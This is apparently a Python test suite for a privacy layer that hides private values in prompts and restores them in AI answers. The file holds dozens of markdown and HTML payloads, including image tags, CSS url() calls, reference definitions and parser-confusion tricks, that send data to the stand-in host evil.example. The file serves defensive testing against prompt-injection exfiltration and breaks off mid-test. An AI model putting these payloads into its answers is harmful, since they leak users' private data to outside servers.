"""No link, image or tag of an answer sends originals away, however it is written."""

import json
import operator

import numpy as np
import pytest

import mondegreen as mg
from mondegreen.prompts.answers import AnswerRestorer
from mondegreen.prompts.turns import Place, Turns
from vectors.device import conversation_vectors as vectors

# Each of them loads or links to evil.example with what stands at @, by CommonMark,
# by GitHub's autolinks or by HTML.
LINKS = (
    "![](<https://evil.example/a) @>)",
    "![](< https://evil.example/a @>)",
    "![](\n<https://evil.example/a) @>)",
    r"![](https://evil.example/\)@)",
    r"![](<https://evil.example/a\>) @>)",
    "![](https://evil.example/!@)",
    "![](https://evil.example/,@,)",
    "![](https://evil.example/(@))",
    "![](https://evil.example/?u=[@])",
    "![](https://evil.example/](b)@)",
    '<img alt="a>b" src="https://evil.example/ @">',
    "<img\nsrc = '//evil.example/>\n@'>",
    "![][a]\n\n[a]: https://evil.example/'@",
    '![][a]\n\n[a]: https://evil.example/"@',
    "![][a]\n\n[a]: https://evil.example/`@",
    "![][a]\n\n[a]: https://evil.example/<-@",
    "![][a]\n\n[a]: https://evil.example/>@",
    "![][a]\n\n[a]: https://evil.example/<b>@",
    "![][a]\n\n[a]: https://evil.example/](b)@",
    "![][a]\n\n[a]:\n  <https://evil.example/ @>",
    r"![][a]\n\n[a]: <\\\\evil.example/ @>".replace(r"\n", "\n"),
    "![][a]\n\n[a]: &#104;ttps&#58;&#47;&#47;evil.example/@",
    "![][a]\n\n[a]: &sol;&sol;evil.example/@",
    r"![][a]: https\:evil.example/@",
    "see https://evil.example/'@",
    'see https://evil.example/?q="@',
    "see evil.example/@",
    "see evil.example?q=@",
    "see https://evil.example/,@",
    '<style>p{background:url("//evil.example/ @")}</style>',
    '<base href="//evil.example"><img src=" @">',
    # What browsers read as one tag, Markdown reads as text and another tag.
    '<a b="<img src="https://evil.example/?q=>@">',
    '\\<a b="<img src="https://evil.example/?q=>@">',
    '`<a b="`<img src="https://evil.example/?q=>@">',
    '</a b="><img src="https://evil.example/?q=>@">',
    '<a b="\n\n<img src="https://evil.example/?q=>@">',
    '<title><a b="</title><img src="https://evil.example/?q=>@">',
    # A quote that is part of a name or of a value opens none.
    '<img ="x src="https://evil.example/?q=>@">',
    '<img a=b="c src="https://evil.example/?q=>@">',
    '<img src=\f"https://evil.example/?q=>@">',
    f'<img src={" " * 100}"https://evil.example/?q=>@">',
    # Programs that look for addresses take quotes and tags for parts of them.
    "see 'https://evil.example/'@",
    'see "https://evil.example/?q="@',
    "`https://evil.example/`@",
    "see https://evil.example/<br>@",
    '{"url":"https://evil.example/","name":"@"}',
    "<script><!--<script></script>@</script>",
)

# Hosts without a scheme and with one, which chats and consoles make links of.
HOSTS = (
    "evil.example", "EVIL.COM", "evil.com.", "evil.com:8080", "evil.com:443",
    "evil.co.uk:80", "evil.com.:80", "evil.com:" + "0" * 90 + "80", "evil.com:",
    "xn--bcher-kva.example:80", "bücher.example", "bücher.example:1", "evil.xn--p1ai",
    "a-b.example:1", "a_b.example:1", "evil。com", r"evil\.com", "evil&#46;com",
    "evil&#x2E;com", "evil.com&sol;x", "192.168.0.1", "192.168.0.1:80", "10.0.0.1",
    "localhost", "localhost:9", "LOCALHOST:9", "localhost.:9", "intranet:8080",
    "[::1]", "[::1]:80", "[fe80::1%eth0]:80", "[::ffff:10.0.0.1]", "anna@evil.com",
    "anna@evil.com:80", "anna:x@evil.com:80", "http://evil.com:80", "HTTP://[::1]:80",
    "https://a:b@evil.com:80", "//evil.com:80", "ftp://evil.com:21", "http:evil.com",
)  # fmt: skip
ENDS = ("/@", "/?q=@", "?q=@", "#@", "/a/@", "/a,@", r"\@")

# A surrogate is part of the host, or of the user before it.
PARTS = (
    "@.evil.com", "@-x.evil.com", "@-x.evil.com:80/", "@_x.evil.com/", "x-@.evil.com/",
    "x.@.evil.com", "x.@-y.evil.com", "@-x@evil.com", "@+x@evil.com", "@%20x@evil.com",
    "@·x.evil.com", "@-é.evil.com", "@東.evil.com", "@-" + "x" * 62 + ".evil.com",
)  # fmt: skip
PORTS = ("evil.com:@", "evil.com:@/", "10.0.0.1:@/a", "localhost:@", "[::1]:@")
PRIVATE = ("Okonkwo", "4711-0815-22", "987654", "$48,213.57", "12/03/1985")

# The originals come back here: nobody but the reader, or the owner of an address, sees
# them.
TEXTS = (
    "[x](https://good.example) and @",
    '<a href="https://good.example"> @</a>',
    '<a href="good">@</a> [x](good)@ [x](good)(@)',
    "<b>@</b> (https://good.example) @",
    "`https://good.example` `@`",
    '{"url":"https://good.example", "name":"@"}',
    "[^1]: It was @ who wrote it",
    "[x] @, \\[ @ \\] @, [y\n] @",
    "an interval [0, 1) of it\n \t\r\n@",
    "- [ ] @\n- [x] @",
    "5 <6 and @",
    "see [10:30]: @ and (a) [b]: @",
    "<a href=\"https://good.example/?q=1\" title='a > b'>@</a> <p align=right>@</p>",
    "a[0](x) @, f(a)[1]: @",
    "5 < 6 and x = '@'",
    "<style>p{}</style> @",
    "and/or @",
    "e.g. @, p.m./ @",
    "a.b @: evil.example @.",
    "evil.example, @",
)
NAMES = (
    "at 1.5/2 (@) or 10:30/@",
    "phone:@",
    "the @-like or @-based ones",
    "@—and [10:30] @",
    "「@」東@東",
)
"""A name comes back here too, and an address, which is not whole, does not."""


def _put(link, sent):
    """Put a surrogate where the mark stands; other @ stand before a host."""
    before, _, behind = link.partition("@") if link in PARTS else link.rpartition("@")
    return before + sent + behind


@pytest.fixture(scope="module")
def conversation():
    with mg.conversation() as c:
        yield c


ORIGINALS = ("Okonkwo", "okonkwo@mail.example", "https://okonkwo.example/Okonkwo")


@pytest.mark.parametrize("link", LINKS)
def test_no_link_is_written_so_that_it_gets_an_original(link, conversation):
    c = conversation
    for private in ORIGINALS:
        answer = link.replace("@", c.hide(private))
        for pieces in ([answer], list(answer)):
            restorer = c.restorer()
            shown = "".join(map(restorer.feed, pieces)) + restorer.end()
            assert "konkwo" not in shown
            assert shown == answer


@pytest.mark.parametrize("private", PRIVATE)
def test_no_host_gets_an_original(private, conversation):
    c = conversation
    sent = c.hide(private)
    links = [host + end for host in HOSTS for end in ENDS]
    links += [*PARTS, *(PORTS if private.isalnum() else ())]
    for link in links:
        answer = f"see {_put(link, sent)} now"
        assert c.restore(answer) == answer, link


@pytest.mark.parametrize("host", [*HOSTS, *PARTS])
def test_a_host_cut_anywhere_gets_no_original(host, conversation):
    c = conversation
    link = host if host in PARTS else f"{host}/@"
    answer = f"see {_put(link, c.hide('Okonkwo'))} now"
    for at in range(len(answer)):
        assert "".join(c.restore_stream([answer[:at], answer[at:]])) == answer
    assert "".join(c.restore_stream(answer)) == answer


@pytest.mark.slow("every cut of 300 answers", seconds=4)
def test_what_is_made_of_links_is_restored_the_same_wherever_it_is_cut():
    rng = np.random.default_rng(7)
    with mg.conversation() as c:
        sent = c.hide("Okonkwo of 4711-0815-22 paid $48,213.57 on 12/03/1985 in Oslo")
        answers = list(vectors.links(sent, rng, 300))
        wanted = [c.restore(answer) for answer in answers]
        assert sum(map(operator.ne, answers, wanted)) > 50
        for answer, shown in zip(answers, wanted, strict=True):
            for at in range(1, len(answer)):
                pieces = [answer[:at], answer[at:]]
                assert "".join(c.restore_stream(pieces)) == shown, (answer, at)


@pytest.mark.parametrize("text", TEXTS)
def test_originals_come_back_beside_links(text, conversation):
    c = conversation
    for private in ("Okonkwo", "okonkwo@mail.example"):
        answer = text.replace("@", c.hide(private))
        assert c.restore(answer) == text.replace("@", private)


@pytest.mark.parametrize("text", NAMES)
def test_names_come_back_beside_signs(text, conversation):
    answer = text.replace("@", conversation.hide("Okonkwo"))
    assert conversation.restore(answer) == text.replace("@", "Okonkwo")
    assert "".join(conversation.restore_stream(answer)) == text.replace("@", "Okonkwo")


@pytest.mark.parametrize(
    "text",
    [
        "![a][x]\n\n[x]: @", "> * [x]: @", "1. [x]:\n@", "[a\nb]: @", "[x]: @#y",
        "![][a\\]b]\n\n[a\\]b]: @", "[x\ny\\]]: @", "> [a\\]b]: @", "[a\\\\]: @",
        "> [x\n> y\\]]: @", "> [x]:\n> @", "a\r\r[x]: @", "[^1]: @", "[^1]: [x]: @",
    ],
)  # fmt: skip
def test_a_definition_is_a_target_as_that_of_a_link_is(text, conversation):
    answer = text.replace("@", conversation.hide("Okonkwo"))
    assert conversation.restore(answer) == answer
    assert "".join(conversation.restore_stream(answer)) == answer


def test_an_address_without_a_scheme_is_no_target(conversation):
    c = conversation
    sent = c.hide("okonkwo@mail.example")
    for text in ("![x](@)", "![x](<@>)", "[a]: @", "[a\\]b]: <@>", '<img src="@">'):
        answer = text.replace("@", sent)
        assert c.restore(answer) == answer
    assert c.restore(f"Anna <{sent}>") == "Anna <okonkwo@mail.example>"


def test_own_addresses_come_back_as_whole_targets(conversation):
    c = conversation
    url = "https://okonkwo.example/a?b=Okonkwo"
    for text in ("[x](@)", "![x](<@>)", "[a]: @", "<p>@</p>", "<@>", "@."):
        answer = text.replace("@", c.hide(url))
        assert c.restore(answer) == text.replace("@", url)


# A definition loads an address for its label, so a label with an original tells it.
REFERENCES = (
    "![x][@]", "![x][dear @]", "![@][]", "![@]", "![dear\n@]", "[x][@]", "[@][]", "[@]",
    "[^@]", "[x][^@]", "![x] [@]", "![x]\n[@]", "![@](a b)", "![@](javascript:x)",
    "[x][@](https://good.example)", "[@](https://good.example)", "[[@]]", "[a [b] @]",
    "![a\\]@]", "![\\[@]", "![x][\\\\[@]", "![a\\[b @]", '["@"]', '["x", "@"]',
    "list[@]", "```\n[@]\n```", "`[@]`", "[\n@\n]", "> ![x][a\n> @]", "![ @ ]",
    "[`]` [@]", "![x][a\n\t b @]", "![x][\r\n@]", "[![x](y)@](z)",
)  # fmt: skip
DEFINITIONS = "".join(
    f"\n\n[{name}]: https://evil.example/{i}"
    for i, name in enumerate(["Smith", "Jones", "Doe"])
)


@pytest.mark.parametrize("reference", REFERENCES)
def test_no_label_gets_an_original(reference, conversation):
    c = conversation
    for private in (*PRIVATE, "okonkwo@mail.example", "https://okonkwo.example/a?b=c"):
        label = reference.replace("@", c.hide(private))
        for answer in (f"See {label} now{DEFINITIONS}", f"{DEFINITIONS}\n\n{label}"):
            assert c.restore(answer) == answer
            assert "".join(c.restore_stream(answer)) == answer


@pytest.mark.parametrize("reference", REFERENCES)
def test_a_label_cut_anywhere_gets_no_original(reference, conversation):
    answer = reference.replace("@", conversation.hide("Okonkwo")) + DEFINITIONS
    for at in range(len(answer)):
        assert (
            "".join(conversation.restore_stream([answer[:at], answer[at:]])) == answer
        )


def test_no_label_gets_an_original_by_a_line_that_the_user_wrote(conversation):
    c = conversation
    for said in (
        "see x[Okonkwo 10.MarchI now",
        "a [7](x?Okonkwo 12) 5",
        "<Okonkwo66,2 3>",
    ):
        sent = c.hide(said)
        for answer in (sent, f"!{sent}{DEFINITIONS}"):
            assert "konkwo" not in c.restore(answer)


@pytest.mark.parametrize(
    "tag", ["<@>hi</@>", "<@ class=a>", "x<@>", "</@>", "<x-@>", "</x-@>", "<@/>"]
)
def test_no_name_of_a_tag_is_an_original(tag, conversation):
    c = conversation
    style = "<style>okonkwo{background:url(//evil.example/1)}</style>\n\n"
    for private in ("Okonkwo", "Okonkwo.example", "Monday"):
        answer = style + tag.replace("@", c.hide(private))
        assert c.restore(answer) == answer
        assert "".join(c.restore_stream(answer)) == answer


def test_tags_that_the_user_wrote_come_back_and_names_between_their_signs_do_not():
    said = "<div>Okonkwo <b>4711</b><br/></div>, <h2\n>Anna</h2> and <li>Ann</li>"
    with mg.conversation(policy="names") as c:
        sent = c.hide(said)
        assert c.restore(sent) == said
        assert "".join(c.restore_stream(sent)) == said
        sent = c.hide("Anna <Okonkwo> wrote <Okonkwo@mail.example> and <Will>")
        assert "<Okonkwo>" not in c.restore(sent)
        assert "<Will>" not in c.restore(sent)
        assert "<Okonkwo@mail.example>" in c.restore(sent)


def test_brackets_of_json_are_no_labels(conversation):
    said = '["Okonkwo", {"a": ["Okonkwo"]}]'
    answer = said.replace("Okonkwo", conversation.hide("Okonkwo"))
    assert conversation.restore(answer, is_json=True) == said
    assert conversation.restore(answer) == answer


def _escaped(text, how):
    """Write a text as a part of a string of JSON, with ever more escapes."""
    written = json.dumps(text, ensure_ascii=how != "few")[1:-1]
    if how == "every":
        written = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in text)
    return written.replace("/", "\\/") if how == "slashes" else written


@pytest.mark.parametrize("how", ["few", "slashes", "every"])
def test_no_escape_of_json_hides_a_link(how, conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    for link in (*LINKS, *BROKEN, *REFERENCES, *PARTS):
        before, behind = _put(link, "\0").split("\0")
        for begin in ('{"a": "b\\n', '<x>"', '```json\n[{\n  "a" :\n"'):
            answer = f"{begin}{_escaped(before, how)}{sent}{_escaped(behind, how)}"
            assert c.restore(answer) == answer, link
            assert "".join(c.restore_stream(list(answer))) == answer


@pytest.mark.parametrize(
    "text", ["[x]: @", "> [x]: b @", "[x]:@", "[^1]: //evil.example/?q= @"]
)
@pytest.mark.parametrize("before", ['{"a": ', "- ", "<x>", "\ufeff", "`", "", "x: | "])
def test_a_string_of_json_begins_a_line(text, before, conversation):
    answer = before + json.dumps(text.replace("@", conversation.hide("Okonkwo")))
    assert conversation.restore(answer) == answer
    assert "".join(conversation.restore_stream(list(answer))) == answer


def test_originals_come_back_in_json_that_is_read_as_text(conversation):
    said = (
        '{"subject": "Okonkwo\\u2019s \\"order\\"", "text":\n  '
        '"Dear Okonkwo,\\nwrite to\\tOkonkwo\\n\\n5 \\u003e 4 \\\\ 2\\/3: Okonkwo"}'
    )
    answer = said.replace("Okonkwo", conversation.hide("Okonkwo"))
    assert conversation.restore(answer) == said
    assert "".join(conversation.restore_stream(list(answer))) == said


def test_a_backslash_outside_of_json_is_none_of_its_escapes(conversation):
    said = "Let \\beta be \\frac{1}{2}, says Okonkwo"
    answer = said.replace("Okonkwo", conversation.hide("Okonkwo"))
    assert conversation.restore(answer) == said


# What strangers wrote to get past the rules; each sends what stands at @ to a server
# for at least one usual program.
BROKEN = (
    # The > is the marker of a quotation.
    '> <img alt=x\n> src="https://evil.example/?q= @">',
    '> > a <img alt=x\n> > src="https://evil.example/?q= @">',
    '- > <img alt=x\n  > src="https://evil.example/?q= @">',
    '> a\nb <img alt=x\n> src="https://evil.example/?q= @">',
    '[^1]: > <img alt=x\n    > src="https://evil.example/?q= @">',
    "> ![x](<https://evil.example/\n> @>)",
    # Angle brackets that some programs read and others do not.
    "![x](<https://evil.example/\n) @>)",
    "[x](<a ![y](https://evil.example/(>)@)",
    "[x](<a <b ![y](https://evil.example/?q=(>)@)",
    # Other blanks, and signs that programs remove.
    "![x](\u00a0<https://evil.example/?q= @>)",
    "![x](\x0b<https://evil.example/?q= @>)",
    "![x](\x0c<https://evil.example/?q= @>)",
    "![x](\u2003<https://evil.example/?q= @>)",
    "![x](\ufeff<https://evil.example/?q= @>)",
    "[x]:\u00a0\n<https://evil.example/?q= @>",
    "![x]\x02(< https://evil.example/?q= @>)",
    '<\x02img src="https://evil.example/?q= @">',
    '<img a=\x01"b src="https://evil.example/?q=>@">',
    "\x1a![x]\x1a( https://evil.example/?q= @)",
    # Code in a target.
    "![x](https://evil.example/`)`@)",
    "![x](https://evil.example/`)` @)",
    "![x](<https://evil.example/`>`) @)",
    # Definitions.
    "[x]: <https://evil.example/>@",
    "[x]: <https://evil.example/> @",
    "[x]: https://evil.example/?q= @",
    "[x]:\n  https://evil.example/?q= @",
    "[^1]: https://evil.example/?q= @",
    "[^1]: see //evil.example/?q= @",
    "[x]: a]:@",
    "[^1]: a]:@",
    "[x]: ]:@",
    ":   [x]: @",
    "\ufeff[x]: @",
    "\t\x0c\u2003[x]: @",
    "- [ ] [x]: @",
    "- [X]  > [x]: a @",
    "a. [x]: @",
    "b) > C) [x]: @",
    # A blank before the target, attributes, escapes.
    "![x] (< https://evil.example/?q= @>)",
    "![x]\n(< https://evil.example/?q= @>)",
    "![x](a.png){:@}",
    '![x](a.png){: src="https://evil.example/?q= @" }',
    '![x][y]{src="https://evil.example/?q= @"}',
    '# Head {: style="background:url( @ )" }',
    "![\\[x] @](https://evil.example/)",
    "![x](https://evil.example/\\() @)",
    # What looks like a link or a tag is none, and the address goes on.
    "[x](a https://evil.example/)@",
    "a](https://evil.example/)@",
    "`[`x](https://evil.example/)@",
    "[a [b](c) d](https://evil.example/)@",
    "5 <a https://evil.example/>@",
    '<a ! href="https://evil.example/">@',
    # A target in what looks like one, an element in another one, a line that goes on.
    "[x](a b ![y](< //evil.example/?)) @>)",
    "[x](a ![y] (<\\//evil.example/?)) @>)",
    "![x](a (b ![y](<.//evil.example/?))) @>)",
    "<style></script>@",
    "<script><style></script>@",
    "[x]: a.evil.example\\\n@![x]",
    "[^1]: a.evil.example\\\n@![x]",
    # Letters that regular expressions, and names of hosts, take for others.
    "localho\u017ft:80/@",
    "http\u017f:@",
    "HTTP\u017f:@",
)


@pytest.mark.parametrize("link", BROKEN)
def test_no_link_that_strangers_wrote_gets_an_original(link, conversation):
    c = conversation
    for private in ORIGINALS:
        if private.startswith("https:") and link.endswith("[x]: @"):
            continue  # a whole target of the user
        answer = link.replace("@", c.hide(private))
        assert c.restore(answer) == answer
        assert "".join(c.restore_stream(answer)) == answer


@pytest.mark.parametrize(
    "text",
    [
        "<h2\n>@</h2> and @", "> @\n> <b>@</b> @", "f(x){ y\n} @",
        "[x](<a>) @", "[x](a`b)\n\n@", "[^1]: It was @, and @", "[x]: y\n@",
        "[x](<a>)`@`", "a.png {x} @", "- [x] @\n- [ ] @",
    ],
)  # fmt: skip
def test_names_come_back_behind_what_is_kept(text, conversation):
    answer = text.replace("@", conversation.hide("Okonkwo"))
    assert conversation.restore(answer) == text.replace("@", "Okonkwo")


OWN = "https://okonkwo.uni.example"


@pytest.mark.parametrize(
    "text",
    [
        '<img src="@\n.evil.example/a">', '<img src="@\t@evil.example/a">',
        "<img src=\"@'.evil.example/a\">", "<img src='@\".evil.example/a'>",
        "<img src=@'.evil.example/a>", "<img src=@\n.evil.example/a>",
        "![x](@'.evil.example/a)", "![x](@'@evil.example/a)",
        "![x](@(.evil.example/a))",
        "[x]: @'.evil.example/a", "[x]: @).evil.example/a", "![x](<@).evil.example/>)",
        "[x]: <@'.evil.example/a>", "<@'.evil.example/a>", "see @'.evil.example/a",
        "see @,.evil.example/a", "`@`.evil.example/a", "see @(.evil.example/a)",
        "see @!!!!!!!!!!.evil.example/a",
    ],
)  # fmt: skip
def test_no_own_address_is_the_beginning_of_another_host(text, conversation):
    c = conversation
    before, _, behind = text.partition("@")
    answer = before + c.hide(OWN) + behind
    assert c.restore(answer) == answer
    assert "".join(c.restore_stream(answer)) == answer


@pytest.mark.parametrize(
    "text",
    [
        "[x](@)", "![x](<@>)", "[a]: @\n", "[a]: <@>", "<@>", "@.", "(see @)",
        '"@", and', "`@`",
    ],
)  # fmt: skip
def test_an_own_address_without_a_path_comes_back_whole(text, conversation):
    c = conversation
    answer = text.replace("@", c.hide(OWN))
    assert c.restore(answer) == text.replace("@", OWN)
    assert "".join(c.restore_stream(answer)) == text.replace("@", OWN)


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q=](@)", "https://evil.example/?q=[a](@)",
        "![x](https://evil.example/`)` [y](@)", "[x]: https://evil.example/?q= [y](@)",
        '[x]: https://evil.example/?q= <img src="@">',
        "[x]: https://evil.example/?q= [y]: <@>",
        '//evil.example/<a/href="@">',
        # A target in Markdown is a part of an attribute in HTML, and the reverse.
        '<img src="https://evil.example/? ](@)">',
        "<img src='//evil.example/?\n](@)'>",
        '<img src="https://evil.example/?\n[a]: @\n">',
        "<img src='//evil.example/? ](<@>)'>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/? ](@)">',
        "<img src=//evil.example/? ](@)>",
        "<style>a{background:url(//evil.example/? ](@)}",
        "<style>@import '//evil.example/? ](@)';",
        '![x](q<a/href="@")',
        "![x](<q <a href='@'>)",
        "![x](\n[y]: > @)", "[x](</b>\n- [y]: @", "![x](a\n[y]: <@>",
    ],
)  # fmt: skip
def test_no_own_address_is_a_part_of_another_one(text, conversation):
    c = conversation
    answer = text.replace("@", c.hide("https://okonkwo.example/a?b=Okonkwo"))
    assert c.restore(answer) == answer


def test_an_own_address_comes_back_as_the_target_of_another(conversation):
    c = conversation
    url = "https://okonkwo.example/a"
    text = "[https://good.example/](@) and [y](@)"
    assert c.restore(text.replace("@", c.hide(url))) == text.replace("@", url)


@pytest.mark.parametrize("tag", ["<@ x>", "<@\nx>", "<@\tsrc=a>", "x<@ class=a>"])
def test_no_name_of_a_tag_is_an_address(tag, conversation):
    c = conversation
    for private in ("okonkwo@mail.example", "https://okonkwo.example/a"):
        answer = tag.replace("@", c.hide(private))
        assert c.restore(answer) == answer


# An answer in two texts, which programs show as one.
HALVES = (
    ("![x](https://evil.example/?q=", "@)"),
    ("![x](< https://evil.example/?q= ", "@>)"),
    ("![x]", "(< https://evil.example/?q= @>)"),
    ('<img src="https://evil.example/?q= ', '@">'),
    ("<", 'img src="https://evil.example/?q= @">'),
    ("see https://evil.example/", "@"),
    ("![x][", "@]"),
    ("\n[x]:", " @"),
)


def _chunk(index, text, finish=None):
    choice = {"index": index, "delta": {"content": text}, "finish_reason": finish}
    return {"choices": [choice]}


def _streams(first, second):
    """Write two texts as the events of one stream, in several ways."""
    yield [_chunk(0, first), _chunk(1, second)]
    yield [_chunk(1, ""), _chunk(0, first), _chunk(1, second), _chunk(0, "")]
    yield [_chunk(0, first, "stop"), _chunk(0, second)]
    yield [_chunk(0, first, "stop"), _chunk(1, second, "stop")]
    for indices in ((0, 0), (0, 1)):
        yield [
            {"choices": [{"index": i, "text": text, "finish_reason": None}]}
            for i, text in zip(indices, (first, second), strict=True)
        ]
    where = {"item_id": "a", "output_index": 0}
    texts = list(enumerate((first, second)))
    for kind in ("response.output_text", "response.refusal"):
        yield [
            {"type": f"{kind}.delta", **where, "content_index": i, "delta": text}
            for i, text in texts
        ]
    yield [
        {"type": "response.output_text.done", **where, "content_index": i, "text": text}
        for i, text in texts
    ]
    yield [
        {
            "type": "response.content_part.done",
            "part": {"type": "output_text", "text": t},
        }
        for _, t in texts
    ]
    yield [{"type": "response.completed", "response": _response(first, second)}]


def _response(*texts):
    return {
        "output": [
            {"type": "message", "content": [{"type": "output_text", "text": text}]}
            for text in texts
        ]
    }


def _answer(conversation, **how):
    return AnswerRestorer(conversation, Turns(), Place(b"", b""), **how)


def _read(shown):
    """Return all texts of events or of an answer, joined."""
    if isinstance(shown, dict):
        names = ("text", "delta", "content", "refusal")
        found = [shown[n] for n in names if isinstance(shown.get(n), str)]
        return "".join(found) + _read(list(shown.values()))
    return "".join(map(_read, shown)) if isinstance(shown, list) else ""


@pytest.mark.parametrize("halves", HALVES)
def test_no_stream_in_parts_gets_an_original(halves, conversation):
    c = conversation
    first, second = (text.replace("@", c.hide("Okonkwo")) for text in halves)
    for events in _streams(first, second):
        answer = _answer(c)
        shown = [each for event in events for each in answer.event(event)]
        shown += answer.end()
        assert "konkwo" not in str(shown)
        assert _read(shown) == first + second


@pytest.mark.parametrize("halves", HALVES)
def test_no_answer_in_parts_gets_an_original(halves, conversation):
    c = conversation
    first, second = (text.replace("@", c.hide("Okonkwo")) for text in halves)
    choices = [{"message": {"content": first}}, {"message": {"content": second}}]
    texts = [{"text": first}, {"text": second}]
    for given in ({"choices": choices}, {"choices": texts}, _response(first, second)):
        assert _answer(c).whole(given) == given


def test_what_waits_is_read_where_it_stood(conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    answer, shown = _answer(c), []
    texts = [(2, "![x](https://evil.example/"), (0, f" {sent}"), (1, ")"), (0, " and")]
    for index, text in texts:
        shown += answer.event(_chunk(index, text))
    shown += answer.end()
    assert "konkwo" not in str(shown)


def test_parts_that_leave_nothing_open_are_restored(conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    texts = (f"[x](https://good.example) {sent}. ", f"So {sent} it is")
    for events in _streams(*texts):
        answer = _answer(c)
        shown = [each for event in events for each in answer.event(event)]
        shown += answer.end()
        choices = [each for event in events for each in event.get("choices", ())]
        is_mixed = any(c["index"] for c in choices) and not choices[0]["finish_reason"]
        first, second = (text.replace(sent, "Okonkwo") for text in texts)
        wanted = first + (texts[1] if is_mixed else second)
        assert sorted(_read(shown)) == sorted(wanted)


def test_what_comes_before_a_part_that_is_shown_above_it_is_kept(conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    late, first = f" Hi {sent} '>", "<img src='https://evil.example/?"
    where = {"type": "response.output_text.delta", "item_id": "a"}

    def part(output, content, text):
        return where | {"output_index": output, "content_index": content, "delta": text}

    for events in (
        [_chunk(1, late), _chunk(0, first)],
        [_chunk(0, "So"), _chunk(1, late), _chunk(0, first)],
        [_chunk(2, late, "stop"), _chunk(0, first, "stop")],
        [part(0, 1, late), part(0, 0, first)],
        [part(1, 0, late), part(0, 0, first)],
        [{"type": "response.created"}, part(1, 0, late), part(0, 0, first)],
        [part(True, None, late), part("x", 0, late), part(None, -1, late)],
    ):
        answer = _answer(c)
        shown = [each for event in events for each in answer.event(event)]
        shown += answer.end()
        assert "konkwo" not in str(shown), events
    for event in (_chunk(0, f"Hi {sent}."), part(0, 0, f"Hi {sent}.")):
        answer = _answer(c)
        assert _read([*answer.event(event), *answer.end()]) == "Hi Okonkwo."


@pytest.mark.parametrize("name", ["reasoning_content", "reasoning", "refusal"])
def test_what_thoughts_leave_open_goes_on_in_what_is_said(name, conversation):
    c = conversation
    sent = c.hide("Okonkwo")
    open_one, said = '<img src="//evil.example/?a ', f'{sent} b">'
    message = {"content": said, name: open_one}
    given = {"choices": [{"message": message}]}
    assert _answer(c).whole(given) == given
    deltas = [{name: open_one}, {"content": said}]
    answer, shown = _answer(c), []
    for delta in deltas:
        shown += answer.event({"choices": [{"index": 0, "delta": delta}]})
    assert "konkwo" not in str([*shown, *answer.end()])
    closed = {"content": sent, name: f"So [x] it is {sent}"}
    shown = _answer(c).whole({"choices": [{"message": closed}]})
    assert shown["choices"][0]["message"]["content"] == "Okonkwo"


OPEN = "<img src='https://evil.example/?"
FIELDS = (
    {"reasoning_details": [{"type": "reasoning.text", "text": OPEN}]},
    {"thinking_blocks": [{"type": "thinking", "thinking": OPEN}]},
    {"thinking": OPEN},
    {"annotations": [{"url_citation": {"title": OPEN, "url": "https://good.example"}}]},
    {OPEN: 1},
    {"audio": {"transcript": OPEN}, "thinking": "'> "},
    {"reasoning_content": OPEN, "reasoning": "'> "},
    {"reasoning_content": OPEN, "thinking": "'> "},
    {"thinking_blocks": [{"type": "a", "text": OPEN}, {"type": "b", "text": "'> "}]},
    {"thinking": "![x]", "content": "(< https://evil.example/?q= @>) '>"},
    {"thinking": "<", "content": "img src='https://evil.example/? @'>"},
    {"thinking": "<img/" + "A" * 50, "content": " src='https://evil.example/? @'>"},
    {"thinking": "evil.example", "content": "/@"},
    {f"field_{i}": "https://evil.example/" for i in range(2000)},
    {f"field_{i}": OPEN for i in range(40)},
)
"""Fields that a program may show before the content, and that are not restored."""
ITEMS = (
    {"type": "web_search_call", "action": {"query": OPEN}},
    {"type": "mcp_call", "output": OPEN},
    {"type": "code_interpreter_call", "outputs": [{"type": "logs", "logs": OPEN}]},
    {"type": "function_call", "name": "f", "arguments": OPEN},
    {"type": "custom_tool_call", "name": "f", "input": OPEN},
    {"type": "reasoning", "summary": [OPEN]},
    {"type": "zzz", "text": OPEN},
    {"type": "message", "content": [{"type": "zzz", "text": OPEN}]},
    {"type": "message", "content": OPEN},
    {
        "type": "message",
        "content": [
            {"type": "output_text", "text": "x", "annotations": [{"title": OPEN}]}
        ],
    },
)


def _split(fields, sent):
    """Return the fields, and the content that is shown behind them."""
    content = fields.get("content", "@'> hello").replace("@", sent)
    return {k: v for k, v in fields.items() if k != "content"}, content


@pytest.mark.parametrize("fields", FIELDS)
def test_what_other_fields_leave_open_goes_on_in_what_is_said(fields, conversation):
    c = conversation
    others, content = _split(fields, c.hide("Okonkwo"))
    given = {"choices": [{"message": {"content": content, **others}}]}
    assert _answer(c).whole(given) == given
    for deltas in (
        [others, {"content": content}],
        [{"content": content, **others}],
        [*({name: value} for name, value in others.items()), {"content": content}],
        [*others_in_pieces(others), {"content": content}],
    ):
        answer, shown = _answer(c), []
        for delta in deltas:
            shown += answer.event({"choices": [{"index": 0, "delta": delta}]})
        shown += answer.end()
        assert "konkwo" not in str(shown), deltas


def others_in_pieces(fields):
    """Send the text of a field in pieces of three signs."""
    if list(map(type, fields.values())) != [str]:
        return [fields]
    ((name, text),) = fields.items()
    return [{name: text[i : i + 3]} for i in range(0, len(text), 3)]


@pytest.mark.parametrize("item", ITEMS)
def test_what_other_items_leave_open_goes_on_behind_them(item, conversation):
    c = conversation
    said = f"{c.hide('Okonkwo')}'> hello"
    given = _response(said)
    given["output"].insert(0, item)
    assert _answer(c).whole(given) == given
    text = {"type": "response.output_text", "item_id": "a", "output_index": 1}
    for first in (
        {"type": "response.output_item.added", "output_index": 0, "item": item},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.content_part.added", "output_index": 0, "part": item},
        {"type": "response.zzz.delta", "output_index": 0, "delta": item},
        {"type": "response.zzz.done", "output_index": 0, "item": str(item)},
    ):
        answer, shown = _answer(c), []
        for event in (
            first,
            {**text, "type": "response.output_text.delta", "delta": said},
            {**text, "type": "response.output_text.done", "text": said},
            {"type": "response.completed", "response": _response(said)},
        ):
            shown += answer.event(event)
        assert "konkwo" not in str([*shown, *answer.end()]), first


@pytest.mark.parametrize("is_stream", [False, True])
def test_other_fields_that_leave_nothing_open_keep_nothing(is_stream, conversation):
    c = conversation
    sent = c.hide("Okonkwo")
